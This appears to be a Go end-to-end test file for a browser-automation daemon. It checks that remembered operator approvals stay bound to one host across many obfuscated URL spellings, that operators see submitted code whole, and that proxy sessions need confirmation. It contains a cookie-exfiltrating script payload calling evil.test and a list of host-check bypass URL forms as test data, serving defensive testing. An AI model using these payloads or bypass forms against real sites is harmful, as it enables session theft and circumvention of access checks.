package e2e_test

import (
	"context"
	"fmt"
	"net/http"
	"net/http/httptest"
	"strings"
	"sync/atomic"
	"testing"

	client "github.com/browserd/browserd/clients/go"
	"github.com/browserd/browserd/protocol"
)

// askedOr waits for the next question to the operator, or for done; nil: it was done.
func (a *agent) askedOr(done chan error) map[string]any {
	ctx, cancel := context.WithCancel(a.t.Context())
	defer cancel()
	go func() {
		select {
		case err := <-done:
			done <- err
			cancel()
		case <-ctx.Done():
		}
	}()
	e, err := a.c.Event(ctx, client.OfType(protocol.EventConfirmationRequested))
	if err != nil {
		return nil
	}
	return e.Fields
}

// An answer that is remembered for one address is not used for another, however the two are
// written: as a browser reads them, and no other parser.
func TestARememberedAnswerIsForItsAddress(t *testing.T) {
	t.Parallel()
	d := driven(t, "", map[string]string{"BROWSERD_POLICY__AUTONOMY": "supervised", "BROWSERD_POLICY__CONFIRM": "http_request", "BROWSERD_BROWSER__DISABLED": "true"})
	var reached, visited atomic.Int64
	shop, bank := newPageServer(t), newPageServer(t)
	bank.mux.HandleFunc("/", func(http.ResponseWriter, *http.Request) { reached.Add(1) })
	shop.mux.HandleFunc("/", func(http.ResponseWriter, *http.Request) { visited.Add(1) })
	attempts := 0
	for _, form := range []string{
		"http://HOST/", " http://HOST/", "http://HOST/ ", "\u0001http://HOST/", "http:HOST/", "http:/HOST/", "http:///HOST/", `http:\\HOST\`, `http://HOST\`, `http:\/HOST`,
		"HTTP://HOST/", "ht\ttp://HOST/", "http://\tHOST/", "http://HOST\t/", "http://%31%32%37.0.0.1:PORT/", "http://0x7f.1:PORT/", "http://2130706433:PORT/",
		"http://127.0.0.1.:PORT/", "http://１２７.0.0.1:PORT/", "http://127。0.0.1:PORT/", "http://127.0.0.1:0PORT/", "http://HOST?a%zz", "http://HOST#%zz", "http://HOST/%zz",
	} {
		a, o := as(t, d, ann), as(t, d, olga)
		a.do("session_open", nil)
		at := func(w *pageServer) string {
			host := strings.TrimPrefix(w.URL, "http://")
			return strings.NewReplacer("HOST", host, "PORT", strings.TrimPrefix(host, "127.0.0.1:")).Replace(form)
		}
		for i, w := range []*pageServer{shop, bank} {
			attempts++
			sent := a.send("http_request", params{"url": at(w), "method": "POST", "body": "x"})
			done := make(chan error, 1)
			go func() { _, err := a.wait(sent); done <- err }()
			q := o.askedOr(done)
			if q == nil {
				continue // it was refused, or it came through: what reached the bank is counted
			}
			if want := strings.TrimPrefix(w.URL, "http://"); q["host"] != want && q["host"] != nil {
				t.Errorf("%q: the operator is told %v, and it goes to %s", at(w), q["host"], want)
			}
			o.do("confirm", params{"id": q["id"], "allow": i == 0, "remember": "session"})
			<-done
		}
		a.do("session_close", nil)
	}
	t.Logf("%d requests, %d reached the shop, %d the bank", attempts, visited.Load(), reached.Load())
	if visited.Load() < 8 {
		t.Error("so few of the forms are addresses of the shop that this test proves little")
	}
	if n := reached.Load(); n > 0 {
		t.Errorf("%d requests reached the bank, for which nobody said yes", n)
	}
}

// Who decides on code sees it whole and as it is: no part of it looks like a field whose
// value is hidden.
func TestAnOperatorSeesTheCode(t *testing.T) {
	t.Parallel()
	d := driven(t, "", map[string]string{"BROWSERD_POLICY__AUTONOMY": "supervised", "BROWSERD_POLICY__CONFIRM": "eval"})
	a, o := as(t, d, ann), as(t, d, olga)
	a.do("session_open", nil)
	const evil = "<script>fetch('//evil.test/'+document.cookie)</script>"
	for _, body := range []string{
		evil, `{"text":"` + evil + `"}`, `{"value":["` + evil + `"]}`, `{"password":"` + evil + `"}`, `[{"key":"` + evil + `"}]`, `"` + evil + `"`,
		"password=" + evil, "a=1&token=" + evil, strings.Repeat(" ", 300) + evil, strings.Repeat("a=1&", 800) + evil,
	} {
		for method, p := range map[string]params{
			"route":       {"pattern": "*/x", "action": "answer", "headers": params{"Content-Type": "text/html"}, "body": body},
			"init_script": {"script": body},
			"eval":        {"expression": body},
			"wait":        {"expression": body},
		} {
			sent := a.send(method, p)
			q := o.asked()
			if !strings.Contains(fmt.Sprint(q["params"]), body) {
				t.Errorf("%s of %.60q: the operator is shown %.300v", method, body, q["params"])
			}
			o.do("confirm", params{"id": q["id"], "allow": false})
			if _, err := a.wait(sent); protocol.CodeOf(err) != protocol.ConfirmationDenied {
				t.Errorf("%s: %v", method, err)
			}
		}
	}
}

// A proxy of the session's own answers in the place of every site without TLS: an operator
// is asked as for eval, for this proxy alone, and who only reads has none.
func TestAProxyOfASessionIsAsked(t *testing.T) {
	t.Parallel()
	d := driven(t, "", map[string]string{"BROWSERD_POLICY__AUTONOMY": "supervised", "BROWSERD_POLICY__CONFIRM": "eval"})
	shop := newPageServer(t)
	shop.serve("/page", page("shop", "<h1>Shop</h1>"), "")
	var asked atomic.Int64
	proxy := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) {
		asked.Add(1)
		w.Header().Set("Content-Type", "text/html")
		fmt.Fprint(w, "<title>foreign</title><script>document.title='foreign script in '+location.origin</script>")
	}))
	t.Cleanup(proxy.Close)
	host := strings.TrimPrefix(proxy.URL, "http://")
	through := func(name string) params { return params{"name": name, "proxy": "http://ann:hunter2@" + host} }
	a, o, b := as(t, d, ann), as(t, d, olga), as(t, d, bob)

	sent := a.send("session_open", through("denied"))
	q := o.asked()
	if q["command"] != "eval" || q["host"] != host || strings.Contains(fmt.Sprint(q), "hunter2") {
		t.Errorf("the operator is asked %v", q)
	}
	o.do("confirm", params{"id": q["id"], "allow": false})
	if _, err := a.wait(sent); protocol.CodeOf(err) != protocol.ConfirmationDenied {
		t.Errorf("a proxy that was not allowed: %v", err)
	}
	// Neither is the session that it was for.
	a.refused("snapshot", params{"session": "denied"}, protocol.SessionNotFound)
	if e := b.refused("session_open", through("read"), protocol.PolicyDenied); e.Details["reason"] != "read_only" {
		t.Errorf("who only reads: %v", e.Details)
	}
	for _, s := range []params{{"session": "denied"}, {"session": "read"}} {
		c := map[string]*agent{"denied": a, "read": b}[s["session"].(string)]
		c.try("open", params{"url": shop.URL + "/page", "session": s["session"]})
	}
	if n := asked.Load(); n > 0 {
		t.Errorf("%d requests went to a proxy that was not allowed", n)
	}

	// Remembered for good, it is remembered for this proxy, and for no script.
	sent = a.send("session_open", through("first"))
	o.do("confirm", params{"id": o.asked()["id"], "allow": true, "remember": "always"})
	if _, err := a.wait(sent); err != nil {
		t.Fatal(err)
	}
	a.do("session_open", through("second"))
	for method, p := range map[string]params{"init_script": {"script": "1"}, "session_open": {"proxy": "http://127.0.0.1:1"}} {
		sent := a.send(method, p)
		o.do("confirm", params{"id": o.asked()["id"], "allow": false})
		if _, err := a.wait(sent); protocol.CodeOf(err) != protocol.ConfirmationDenied {
			t.Errorf("%s: %v", method, err)
		}
	}
}
